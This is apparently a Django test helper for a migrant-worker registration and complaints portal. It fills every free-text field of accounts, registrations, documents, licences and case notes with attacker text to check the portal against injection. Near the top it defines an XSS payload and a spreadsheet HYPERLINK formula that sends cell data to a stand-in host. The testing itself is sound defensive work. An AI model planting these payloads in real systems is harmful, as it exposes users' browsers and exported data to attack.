"""A portal whose every free-text field holds an attacker's text: a CPMI (account, applicant,
registration, documents with a reviewer's note, a signed letter), its P3MI with a licence, a
complaint case with notes, and the officers who handled them. Each CharField and TextField
without choices of those rows gets the text (cut to the field's length), except the ones the
portal makes itself (numbers, hashes, tokens) and the NIK, which forms only take as digits."""

from __future__ import annotations

from dataclasses import dataclass

from django.db import models
from django.utils import timezone

from complaints import services as complaint_services
from complaints.choices import EventKind
from complaints.models import Case, CaseEvent
from documents.models import Document, Letter
from documents.services import letter_generate, letter_sign
from registrations.choices import MilestoneKind
from registrations.models import Milestone, Registration, StatusChange
from stakeholders.choices import StakeholderKind
from stakeholders.models import Licence, Stakeholder
from tests.documents.helpers import verified_registration
from tests.factories import CaseFactory, LicenceFactory, StakeholderFactory

XSS = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://contoh.test/?d="&A1,"klik")'

# Made by the portal, or needed as they are for the page to be reached at all.
NOT_FREE_TEXT = {
    "password",
    "email",  # the account's login; other e-mail fields do get the text
    "nik",
    "worker_nik",
    "number",
    "token",
    "sha256",
    "tracking_code_hash",
    "current_step",
    "error",
}


def free_text_fields(model) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name not in NOT_FREE_TEXT
    ]


def fill(obj, text: str) -> None:
    """Write `text` into every free-text field of `obj` (straight to the row, as any form
    that accepts free text would store it)."""
    values = {
        f.name: text[: f.max_length] if f.max_length else text for f in free_text_fields(type(obj))
    }
    type(obj).objects.filter(pk=obj.pk).update(**values)
    obj.refresh_from_db()


@dataclass
class World:
    cpmi: object
    registration: Registration
    letter: Letter
    stakeholder: Stakeholder
    case: Case


def build(*, text: str, cpmi, verifikator, kepala, petugas) -> World:
    """Everything filled with `text`, the letter signed and its PDF made after the filling."""
    from django.test import TestCase

    stakeholder = StakeholderFactory(kind=StakeholderKind.P3MI)
    LicenceFactory(stakeholder=stakeholder)
    registration = verified_registration(verifikator=verifikator, user=cpmi)
    Registration.objects.filter(pk=registration.pk).update(p3mi=stakeholder)
    for user in (cpmi, verifikator, kepala, petugas):
        fill(user, text)
    kepala.nip = "197003152000031002"  # the letter needs a NIP of digits
    kepala.save(update_fields=["nip"])
    fill(registration.applicant, text)
    fill(registration, text)
    for document in Document.objects.filter(registration=registration):
        fill(document, text)
    with TestCase.captureOnCommitCallbacks(execute=False):
        signed = letter_sign(registration=registration, by=kepala)
    letter = letter_generate(letter_id=signed.pk)
    # Shown on the timeline once the letter exists.
    Milestone.objects.create(
        registration=registration, kind=MilestoneKind.DEPARTURE, date=timezone.localdate()
    )
    for row in (
        *StatusChange.objects.filter(registration=registration),
        *Milestone.objects.filter(registration=registration),
    ):
        fill(row, text)
    fill(stakeholder, text)
    for licence in Licence.objects.filter(stakeholder=stakeholder):
        fill(licence, text)
    case = CaseFactory(p3mi=stakeholder, registration=registration)
    for kind in (EventKind.NOTE, EventKind.PUBLIC_UPDATE):
        complaint_services.case_event_add(case=case, kind=kind, text=text, by=petugas)
    fill(case, text)
    for event in CaseEvent.objects.filter(case=case):
        fill(event, text)
    registration.refresh_from_db()
    return World(
        cpmi=cpmi,
        registration=registration,
        letter=letter,
        stakeholder=stakeholder,
        case=case,
    )
